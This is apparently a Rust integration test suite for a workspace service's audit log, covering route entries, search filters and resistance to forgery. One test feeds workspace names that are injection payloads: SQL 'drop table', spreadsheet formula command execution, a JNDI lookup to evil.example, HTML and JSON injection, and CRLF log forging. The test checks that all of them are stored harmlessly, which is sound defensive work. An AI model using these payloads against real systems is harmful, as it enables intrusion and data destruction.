//! The audit log: what each route leaves in it, who did it, and how it is searched.

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use sqlx::Row;
use tenure::data_keys::Stream;
use tenure_aggregates::personal::ERASED;

use crate::support::routes::equip;
use crate::support::service::OPERATOR_KEY;
use crate::support::{Acme, User};

/// An entry as it lies in the database, opened: action, actor, via, ip, user agent, request id.
type Entry = (String, Option<String>, Option<String>, Option<String>, Option<String>, Option<String>);

async fn entries_after(acme: &Acme, position: i64) -> Vec<Entry> {
    acme.service.app().reads.wait_for(acme.service.head().await).await.unwrap();
    let admin = acme.service.admin().await;
    let rows = sqlx::query(
        "select action, actor_id, via, request_id, workspace_id, aggregate_type, aggregate_id, origin
         from audit_log where position > $1 order by position",
    );
    let rows = rows.bind(position).fetch_all(&admin).await.unwrap();
    admin.close().await;
    let mut entries = Vec::new();
    for row in rows {
        let mut origin = row.get::<Option<String>, _>(7).unwrap_or_else(|| "{}".to_owned());
        let (workspace, aggregate_type, aggregate_id) = (row.get(4), row.get(5), row.get(6));
        let stream = Stream { workspace, aggregate_type, aggregate_id };
        acme.service.app().vault.open_texts(&mut [(stream, &mut origin)]).await.unwrap();
        let erased = json!({"ip": ERASED, "user_agent": ERASED});
        let origin = if origin == ERASED { erased } else { serde_json::from_str(&origin).unwrap() };
        let of = |field: &str| origin[field].as_str().map(str::to_owned);
        entries.push((row.get(0), row.get(1), row.get(2), of("ip"), of("user_agent"), row.get(3)));
    }
    entries
}

#[tokio::test]
#[allow(clippy::too_many_lines, reason = "a table of all routes")]
async fn every_mutating_route_leaves_its_entries_with_an_origin_the_server_has_set() {
    // Attack 49.
    let acme = Acme::found().await;
    let (invitation, _) = acme.pending("eve@example.com").await;
    let (_, declined) = acme.pending("frank@example.com").await;
    let token = acme.ada().invites(&acme.id, "dave@example.com", "member").await;
    let (ada, dave, operator) = (acme.ada(), acme.service.user("dave"), acme.service.operator());
    let place = equip(&ada, &acme.id).await;
    let hook = |rest: &str| place.fill(&acme.at(&format!("/webhooks/{{endpoint_id}}{rest}")));
    let (put, post, patch, delete) = (Method::PUT, Method::POST, Method::PATCH, Method::DELETE);
    let at = |rest: &str| acme.at(rest);
    let batch = json!({"invitations": [{"email": "h@example.com"}, {"email": "nonsense"}, {"email": "i@example.com"}]});
    let routes: Vec<(&User, &Method, String, Value, &str)> = vec![
        (
            &operator,
            &put,
            "/v1/users/zoe".into(),
            json!({"name": "Zoë"}),
            "user.provisioned workspace.created membership.started",
        ),
        (&operator, &put, "/v1/users/zoe".into(), json!({"name": "Zoe"}), "user.profile_changed"),
        (&operator, &put, "/v1/users/zoe".into(), json!({"name": "Zoe"}), ""),
        (
            &ada,
            &post,
            "/v1/workspaces".into(),
            json!({"name": "X", "slug": "xyz"}),
            "workspace.created membership.started",
        ),
        (&ada, &patch, at(""), json!({"name": "Other", "slug": "other"}), "workspace.profile_changed"),
        (&ada, &patch, at(""), json!({"name": "Other"}), ""),
        (&operator, &patch, at(""), json!({"seats": {"limit": 9}}), "workspace.seats_limit_changed"),
        (&ada, &post, at("/invitations"), json!({"email": "g@example.com"}), "invitation.sent"),
        (&ada, &post, at("/invitations/batch"), batch, "invitation.sent invitation.sent"),
        (&ada, &post, at(&format!("/invitations/{invitation}/resend")), json!({}), "invitation.resent"),
        (&ada, &post, at(&format!("/invitations/{invitation}/revoke")), json!({}), "invitation.revoked"),
        (&dave, &post, "/v1/invitations/preview".into(), json!({"token": token}), ""),
        (
            &operator,
            &post,
            "/v1/invitations/decline".into(),
            json!({"token": declined}),
            "invitation.declined",
        ),
        (
            &dave,
            &post,
            "/v1/invitations/accept".into(),
            json!({"token": token}),
            "invitation.accepted membership.started",
        ),
        (&dave, &post, "/v1/invitations/accept".into(), json!({"token": token}), ""),
        (&ada, &put, at("/members/zoe"), json!({}), "membership.started"),
        (&ada, &put, at("/members/zoe"), json!({"role": "moderator"}), "membership.role_changed"),
        (&ada, &patch, at("/members/zoe"), json!({"role": "admin"}), "membership.role_changed"),
        (
            &ada,
            &patch,
            at("/members/zoe"),
            json!({"expires_at": "2100-01-01T00:00:00Z"}),
            "membership.expiry_changed",
        ),
        (&ada, &post, at("/members/zoe/deactivate"), json!({"reason": "leave"}), "membership.deactivated"),
        (&ada, &post, at("/members/zoe/reactivate"), json!({}), "membership.reactivated"),
        (&dave, &delete, at("/members/dave"), json!({}), "membership.ended"),
        (&ada, &put, at("/invite-code"), json!({}), "workspace.invite_code_issued"),
        (&ada, &delete, at("/invite-code"), json!({}), "workspace.invite_code_disabled"),
        (
            &ada,
            &post,
            at("/webhooks"),
            json!({"url": "https://hooks.example.com/a", "events": ["user.erased"], "enabled": false}),
            "webhook_endpoint.created webhook_endpoint.disabled",
        ),
        (&ada, &patch, hook(""), json!({"events": ["user.*"]}), "webhook_endpoint.changed"),
        (&ada, &patch, hook(""), json!({"events": ["user.*"]}), ""),
        (&ada, &post, hook("/rotate-secret"), json!({}), "webhook_endpoint.secret_rotated"),
        (&ada, &post, hook("/test"), json!({}), "webhook_endpoint.tested"),
        (
            &ada,
            &post,
            hook("/redeliver"),
            json!({"from_seq": 1, "to_seq": 2}),
            "webhook_endpoint.redelivery_requested",
        ),
        (
            &ada,
            &post,
            hook("/deliveries/{delivery_id}/redeliver"),
            json!({}),
            "webhook_endpoint.redelivery_requested",
        ),
        (&ada, &patch, hook(""), json!({"enabled": false}), "webhook_endpoint.disabled"),
        (&ada, &patch, hook(""), json!({"enabled": true}), "webhook_endpoint.enabled"),
        (&ada, &delete, hook(""), json!({}), "webhook_endpoint.deleted"),
        (&ada, &delete, hook(""), json!({}), ""),
        (
            &ada,
            &post,
            at("/transfer-ownership"),
            json!({"to": "bob"}),
            "workspace.ownership_transferred membership.role_changed membership.role_changed",
        ),
        (&operator, &post, at("/suspend"), json!({"reason": "unpaid"}), "workspace.suspended"),
        (&operator, &post, at("/resume"), json!({"reason": "paid"}), "workspace.resumed"),
        (&operator, &post, at("/archive"), json!({}), "workspace.archived"),
        (&operator, &post, at("/restore"), json!({}), "workspace.restored"),
        (&operator, &delete, at(""), json!({}), "workspace.deleted"),
        (
            &dave,
            &delete,
            "/v1/users/dave".into(),
            json!({}),
            "user.erasure_started workspace.deleted user.erased",
        ),
    ];
    for (index, (user, method, path, body, expected)) in routes.into_iter().enumerate() {
        let before = acme.service.head().await;
        let request_id = format!("r-{index}");
        let headers = [
            ("x-request-id", request_id.as_str()),
            ("user-agent", "tests/1.0"),
            ("x-forwarded-for", "9.9.9.9"),
        ];
        let answer = user.send(method.clone(), &path, Some(&body), &headers).await;
        assert!(answer.status.is_success(), "{method} {path}: {:#}", answer.body);
        let entries = entries_after(&acme, before).await;
        let actions: Vec<_> = entries.iter().map(|entry| entry.0.as_str()).collect();
        assert_eq!(actions.join(" "), expected, "{method} {path}");
        let text = |text: &str| Some(text.to_owned());
        let (actor, via) = match &user.id {
            Some(id) => (text(id), text("operator")),
            None => (text("operator"), None),
        };
        // Whoever and whatever goes takes with it from where that was asked.
        let gone = expected.contains("workspace.deleted");
        let (ip, user_agent) = if gone { (ERASED, ERASED) } else { ("127.0.0.1", "tests/1.0") };
        for (action, ..) in &entries {
            let (action, actor, via) = (action.clone(), actor.clone(), via.clone());
            let expected = (action, actor, via, text(ip), text(user_agent), text(&request_id));
            assert!(entries.contains(&expected), "{method} {path}: {entries:?}");
        }
    }
    acme.stop().await;
}

#[tokio::test]
async fn what_is_refused_leaves_no_entry() {
    let acme = Acme::found().await;
    let before = acme.service.head().await;
    let carol = acme.service.user("carol");
    carol.patch(&acme.at(""), json!({"name": "X"})).await.refused(403, "permission_denied");
    carol.delete(&acme.at("/members/ada")).await.refused(403, "permission_denied");
    acme.ada().delete(&acme.at("/members/ada")).await.refused(409, "owner_cannot_leave");
    assert!(entries_after(&acme, before).await.is_empty());
    acme.stop().await;
}

#[tokio::test]
async fn an_entry_has_the_shape_that_clients_rely_on() {
    let acme = Acme::found().await;
    acme.ada().patch(&acme.at("/members/carol"), json!({"role": "moderator"})).await.expect(StatusCode::OK);
    acme.ada()
        .post(&acme.at("/members/carol/deactivate"), json!({"reason": "on leave"}))
        .await
        .expect(StatusCode::OK);
    let log = acme.ada().sees(&acme.at("/audit-log")).await;
    let [deactivated, changed] = &log.items()[..2] else { panic!("two entries at least") };
    assert_eq!(deactivated["reason"], "on leave");
    assert_eq!(changed["changes"], json!({"role": {"from": "member", "to": "moderator"}}));
    assert_eq!(changed["actor"], json!({"type": "user", "id": "ada", "via": "operator"}));
    assert_eq!(changed["target"], json!({"type": "membership", "id": "carol"}));
    assert_eq!(changed["action"], "membership.role_changed");
    for member in ["position", "workspace_seq", "time", "origin"] {
        assert!(changed.get(member).is_some(), "no {member} in {changed:#}");
    }
    for member in ["ip", "user_agent", "request_id", "correlation_id", "causation_id"] {
        assert!(changed["origin"].get(member).is_some(), "no {member} in {changed:#}");
    }
    let seqs: Vec<_> = log.items().iter().map(|entry| entry["workspace_seq"].as_i64().unwrap()).collect();
    assert!(seqs.is_sorted_by(|newer, older| newer > older), "newest first: {seqs:?}");
    acme.stop().await;
}

#[tokio::test]
async fn the_log_is_searched_by_actor_action_target_and_time() {
    let acme = Acme::found().await;
    let ada = acme.ada();
    let halfway = tenure::clock::now().to_rfc3339_opts(chrono::SecondsFormat::Micros, true);
    let bob = acme.service.user("bob");
    bob.patch(&acme.at("/members/carol"), json!({"role": "moderator"})).await.expect(StatusCode::OK);
    acme.service.operator().post(&acme.at("/suspend"), json!({})).await.expect(StatusCode::OK);
    let whole = ada.sees(&acme.at("/audit-log")).await;
    let after = ["workspace.suspended", "membership.role_changed"];
    assert_eq!(whole.column("action")[..2], after);
    for (query, expected) in [
        (
            "actor=bob".to_owned(),
            &["membership.role_changed", "membership.started", "invitation.accepted"][..],
        ),
        ("actor=operator".to_owned(), &["workspace.suspended"]),
        ("actor=nobody".to_owned(), &[]),
        ("action=workspace.suspended".to_owned(), &["workspace.suspended"]),
        ("action=workspace.*".to_owned(), &["workspace.suspended", "workspace.created"]),
        ("action=workspace".to_owned(), &[]),
        ("action=membership.*&actor=bob".to_owned(), &["membership.role_changed", "membership.started"]),
        ("target=carol".to_owned(), &["membership.role_changed", "membership.started"]),
        (format!("target={}", acme.id), &["workspace.suspended", "workspace.created"]),
        (format!("from={halfway}"), &after),
        (format!("from={halfway}&to={halfway}"), &[]),
    ] {
        assert_eq!(
            ada.sees(&acme.at(&format!("/audit-log?{query}"))).await.column("action"),
            expected,
            "{query}"
        );
    }
    let earlier = ada.sees(&acme.at(&format!("/audit-log?to={halfway}"))).await;
    assert_eq!(earlier.items(), &whole.items()[2..]);
    // An instant belongs to what follows it.
    let instant = whole.items()[0]["time"].as_str().unwrap();
    assert_eq!(ada.sees(&acme.at(&format!("/audit-log?from={instant}"))).await.column("action"), after[..1]);
    for ordinary in ["carol", "dave"] {
        let answer = acme.service.user(ordinary).get(&acme.at("/audit-log")).await;
        assert!(matches!(answer.status, StatusCode::FORBIDDEN | StatusCode::NOT_FOUND), "{ordinary}");
    }
    acme.stop().await;
}

#[tokio::test]
async fn a_name_forges_nothing() {
    // Attacks 27 and 49.
    let acme = Acme::found().await;
    let (ada, before) = (acme.ada(), acme.service.head().await);
    let names = [
        "<a href=\"https://evil.example\">click</a>",
        "x\"},{\"action\":\"workspace.deleted\",\"actor\":{\"id\":\"bob\"}",
        "{\"from\":null,\"to\":\"owner\"}",
        "'; drop table audit_log; --",
        "=cmd|' /C calc'!A0",
        "${jndi:ldap://evil.example}",
    ];
    for name in names {
        let answer = ada.patch(&acme.at(""), json!({"name": name})).await.expect(StatusCode::OK);
        assert_eq!(answer.body["name"], name);
        let entry = &ada.sees(&acme.at("/audit-log?limit=1")).await.body["items"][0];
        assert_eq!(
            (&entry["action"], &entry["changes"]["name"]["to"]),
            (&json!("workspace.profile_changed"), &json!(name))
        );
        assert_eq!(entry["actor"]["id"], "ada");
    }
    for name in ["x\r\nworkspace.deleted", "x\ny", "x\u{0}y", "x\u{2028}y"] {
        ada.patch(&acme.at(""), json!({"name": name})).await.refused(400, "validation_failed");
    }
    assert_eq!(entries_after(&acme, before).await.len(), names.len());
    let events = ada.sees(&acme.at(&format!("/events?after={}", 0))).await;
    let lines = events.body.as_str().unwrap().lines().count();
    assert_eq!(lines, acme_seq(&acme).await, "one line an event, whatever is in a name");
    acme.stop().await;
}

async fn acme_seq(acme: &Acme) -> usize {
    let admin = acme.service.admin().await;
    let id: uuid::Uuid = acme.id.parse().unwrap();
    let count = sqlx::query_scalar("select count(*) from events where workspace_id = $1").bind(id);
    let count: i64 = count.fetch_one(&admin).await.unwrap();
    admin.close().await;
    usize::try_from(count).unwrap()
}

#[tokio::test]
async fn nothing_in_a_body_says_who_did_it_or_when() {
    // Attacks 13 and 49.
    let acme = Acme::found().await;
    let before = acme.service.head().await;
    for field in [
        "actor",
        "actor_id",
        "via",
        "origin",
        "time",
        "recorded_at",
        "ip",
        "created_at",
        "updated_at",
        "owner_id",
        "role",
        "status",
    ] {
        let body = json!({"name": "X", field: "bob"});
        acme.ada().patch(&acme.at(""), body).await.refused(400, "unknown_field");
    }
    assert_eq!(acme.service.head().await, before);
    let bearer = format!("Bearer {OPERATOR_KEY}");
    let headers = [
        ("authorization", bearer.as_str()),
        ("x-actor", "bob"),
        ("x-user-id", "bob"),
        ("x-real-ip", "9.9.9.9"),
    ];
    let path = acme.at("/invite-code");
    acme.service.bare(Method::DELETE, &path, &headers).await.expect(StatusCode::NO_CONTENT);
    acme.ada().put(&path, json!({})).await.expect(StatusCode::OK);
    acme.service.bare(Method::DELETE, &path, &headers).await.expect(StatusCode::NO_CONTENT);
    let entries = entries_after(&acme, before).await;
    assert_eq!(entries.last().unwrap().1.as_deref(), Some("operator"));
    assert_eq!(entries.last().unwrap().3.as_deref(), Some("127.0.0.1"));
    acme.stop().await;
}
